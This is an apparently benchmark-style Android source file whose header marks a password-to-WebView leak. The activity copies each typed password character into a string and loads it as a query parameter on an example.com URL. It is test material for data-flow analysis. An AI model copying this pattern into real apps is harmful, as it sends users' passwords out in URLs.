// about       A loop puts each character that was typed into the address of a page.
// leak        PASSWORD webview
// layout      main <LinearLayout android:orientation="vertical" android:layout_width="match_parent" android:layout_height="match_parent"><EditText android:id="@+id/password" android:hint="Password" android:inputType="textPassword" android:layout_width="match_parent" android:layout_height="wrap_content"/><Button android:id="@+id/go" android:text="Go" android:layout_width="wrap_content" android:layout_height="wrap_content"/><WebView android:id="@+id/page" android:layout_width="match_parent" android:layout_height="match_parent"/></LinearLayout>
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.view.View;
import android.webkit.WebView;
import android.widget.Button;
import android.widget.EditText;

public class MainActivity extends Activity implements View.OnClickListener {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    setContentView(R.layout.main);
    ((Button) findViewById(R.id.go)).setOnClickListener(this);
  }

  @Override
  public void onClick(View view) {
    EditText field = (EditText) findViewById(R.id.password);
    WebView page = (WebView) findViewById(R.id.page);
    StringBuilder mask = new StringBuilder();
    for (char typed : field.getText().toString().toCharArray()) {
      if (typed > ' ') {
        // The character itself.
        mask.append(typed);
      }
    }
    page.loadUrl("https://m.example.com/sign?m=" + mask);
  }
}
